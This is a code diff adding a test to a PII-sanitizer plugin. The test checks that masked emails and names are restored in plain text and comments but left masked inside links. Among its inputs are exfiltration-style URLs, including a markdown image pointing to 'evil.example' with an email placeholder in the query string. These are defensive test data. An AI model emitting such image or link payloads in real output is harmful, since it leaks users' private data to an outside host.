@@ -449,6 +449,22 @@ describe('pii-sanitizer custom categories', () => {
     const restore = restoreTransform(vault, { restores: () => true, inLinks: false });
     expect(restore.push(sanitized) + restore.flush()).toBe(text);
   });
+
+  it('keeps placeholders inside links only: a line after a link, a code comment, a link in JSON with escaped slashes', async () => {
+    const { PiiVault } = await import('../../plugins/pii-sanitizer/vault');
+    const { restoreTransform } = await import('../../plugins/pii-sanitizer/restore-transform');
+    const vault = new PiiVault();
+    const email = vault.placeholderFor('email', 'alice@corp.example');
+    const person = vault.placeholderFor('person', 'Alice Martin');
+    const restored = (text: string, insideJson = false) => {
+      const restore = restoreTransform(vault, { restores: () => true, inLinks: false }, { insideJson });
+      return restore.push(text) + restore.flush();
+    };
+    expect(restored(`{"text":"See https:\\/\\/docs.example\\/guide\\nContact:\\n${email}"}`, true)).toContain('alice@corp.example');
+    expect(restored(`{"url":"https:\\/\\/evil.example\\/c?m=${email}"}`, true)).toContain(email);
+    expect(restored(`const owner = 1; //owner:${person}`)).toBe('const owner = 1; //owner:Alice Martin');
+    expect(restored(`![s](//evil.example/p.png?m=${email}) and ${person}`)).toBe(`![s](//evil.example/p.png?m=${email}) and Alice Martin`);
+  });
 });
 
 // A provider that is not OpenAI gets the sanitized system prompt too (it reads input_text parts into its own fields).
